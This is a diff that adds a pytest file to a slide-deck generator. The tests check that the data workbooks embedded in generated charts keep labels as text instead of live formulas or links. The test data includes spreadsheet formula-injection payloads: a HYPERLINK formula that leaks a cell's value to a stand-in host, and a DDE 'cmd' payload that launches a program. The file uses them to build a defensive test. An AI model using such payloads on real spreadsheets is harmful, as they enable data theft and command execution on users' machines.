@@ -1,0 +1,73 @@
+"""A native chart's embedded workbook holds labels as text: "Edit Data" runs no formula."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+from pptx import Presentation
+
+from deckgen.pipeline import BuildOptions, build
+from tests.helpers import write_project
+
+#: Labels an export from anywhere may hold; each would be a live formula or a link.
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+    "http://example.invalid/",
+]
+CSV = "label,a,b\n" + "".join(
+    f'"{label.replace(chr(34), chr(34) * 2)}",{i + 1},{i + 2}\n' for i, label in enumerate(HOSTILE)
+)
+OUTLINE = """\
+deck: {title: T}
+data:
+  t: {file: t.csv}
+slides:
+  - kind: chart
+    title: Bars
+    chart: {type: bar, data: t, x: label, y: a}
+  - kind: chart
+    title: Series named like formulas
+    chart: {type: grouped-bar, data: t, x: label, y: [a, b],
+            series_labels: {a: "=1+2", b: "@NOW()"}}
+  - kind: chart
+    title: Points named like formulas
+    chart: {type: scatter, data: t, x: a, y: b, name: label}
+"""
+
+
+@pytest.fixture(scope="module")
+def workbooks(tmp_path_factory):
+    root = tmp_path_factory.mktemp("formulas")
+    path = write_project(root / "p", OUTLINE, {"t.csv": CSV})
+    result = build(path, BuildOptions(out_dir=root / "out", native_charts=True))
+    found = []
+    for slide in Presentation(str(result.deck)).slides:
+        for shape in slide.shapes:
+            if shape.has_chart:
+                blob = shape.chart.part.chart_workbook.xlsx_part.blob
+                found.append(load_workbook(io.BytesIO(blob)).active)
+    return found
+
+
+def test_every_native_chart_embeds_a_workbook(workbooks):
+    assert len(workbooks) == 3
+
+
+def test_no_cell_of_an_embedded_workbook_is_a_formula_or_a_link(workbooks):
+    for sheet in workbooks:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (cell.coordinate, cell.value)
+                assert cell.hyperlink is None, (cell.coordinate, cell.value)
+
+
+def test_the_labels_are_kept_as_the_text_they_were(workbooks):
+    texts = {c.value for sheet in workbooks for row in sheet.iter_rows() for c in row}
+    assert set(HOSTILE) <= texts
+    assert {"=1+2", "@NOW()"} <= texts
